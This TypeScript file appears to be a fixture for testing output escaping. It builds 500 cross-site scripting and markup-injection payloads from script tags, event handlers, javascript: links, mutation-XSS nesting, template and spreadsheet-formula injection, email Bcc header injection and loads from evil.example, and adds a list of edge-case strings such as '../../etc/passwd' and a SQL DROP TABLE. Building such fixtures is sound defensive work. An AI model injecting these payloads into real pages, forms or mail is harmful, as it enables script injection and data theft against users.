/** Text that becomes more than text wherever it is put into a page, a file or a letter unescaped. */

/** Carried by every element that a payload would make. */
export const MARK = "data-naughty";

const VECTORS = [
  `<script ${MARK}>hit()</script>`,
  `<img ${MARK} src=x onerror=hit()>`,
  `<svg ${MARK} onload=hit()>`,
  `<iframe ${MARK} srcdoc="<script>parent.hit()</script>"></iframe>`,
  `<a ${MARK} href="javascript:hit()">x</a>`,
  `[x](javascript:hit())`,
  `[x](data:text/html;base64,PHNjcmlwdD5oaXQoKTwvc2NyaXB0Pg==)`,
  `![x](https://evil.example/x.png)`,
  `<style ${MARK}>@import "https://evil.example/x.css";</style>`,
  `<math><mtext><table><mglyph><style><img ${MARK} src=x onerror=hit()></style></mglyph></table></mtext></math>`,
  `</script><script ${MARK}>hit()</script>`,
  `"><img ${MARK} src=x onerror=hit()>`,
  `' onmouseover='hit()' ${MARK}='`,
  `<base ${MARK} href="https://evil.example/">`,
  `<meta ${MARK} http-equiv="refresh" content="0;url=https://evil.example/">`,
  `<form ${MARK} action="https://evil.example/"><input name=a></form>`,
  `<object ${MARK} data="https://evil.example/x.swf"></object>`,
  `<link ${MARK} rel="stylesheet" href="https://evil.example/x.css">`,
  `<details ${MARK} open ontoggle=hit()>x</details>`,
  `<input ${MARK} autofocus onfocus=hit()>`,
  `<template shadowrootmode=open><script ${MARK}>hit()</script></template>`,
  `&lt;img ${MARK} src=x onerror=hit()&gt;`,
  `\\u003cimg ${MARK} src=x onerror=hit()\\u003e`,
  "{{constructor.constructor('hit()')()}}",
  `=HYPERLINK("https://evil.example/","x")`,
];

const AROUND: ((payload: string) => string)[] = [
  (payload) => payload,
  (payload) => `"${payload}`,
  (payload) => `'${payload}`,
  (payload) => `\`${payload}\``,
  (payload) => `</title>${payload}`,
  (payload) => `</textarea>${payload}`,
  (payload) => `</style>${payload}`,
  (payload) => `-->${payload}<!--`,
  (payload) => `]]>${payload}`,
  (payload) => `\${${payload}}`,
  (payload) => payload.replace(/<(\w+)/g, (tag) => tag.toUpperCase()),
  (payload) => payload.replace(/<(\w+) /g, "<$1/"),
  (payload) => payload.replaceAll(" ", "\t"),
  (payload) => `\u0000${payload}`,
  (payload) => `\u202e${payload}`,
  (payload) => `**${payload}**`,
  (payload) => `> ${payload}`,
  (payload) => `| ${payload} | x |`,
  (payload) => `\`\`\`\n${payload}\n\`\`\``,
  (payload) => `\r\nBcc: everybody@evil.example\r\n\r\n${payload}`,
];

/** Five hundred: every vector in every surrounding. */
export const PAYLOADS = VECTORS.flatMap((vector) => AROUND.map((around) => around(vector)));

/** Words that trip up what stores, cuts, sorts or counts them. */
export const NAUGHTY = [
  "null",
  "undefined",
  "NaN",
  "1e400",
  "__proto__",
  "constructor",
  "../../etc/passwd",
  "CON",
  "%s%n%x",
  "\ud800 half a pair",
  "\u0000",
  "\ufeff",
  "\u200b\u200d\u2060",
  "\u2028\u2029",
  "\u202eback to front",
  "Z\u0351\u036b\u0343a\u0353l\u0332g\u034co\u0300",
  "👩‍👩‍👧‍👦🏴󠁧󠁢󠁥󠁮󠁧󠁿",
  "ﷺ".repeat(20),
  "الكل في المجموعة",
  "社會科學院語學研究所",
  "İıſß",
  "'; DROP TABLE users; --",
  "${7*7} #{7*7} {{7*7}}",
  "-1/0",
];
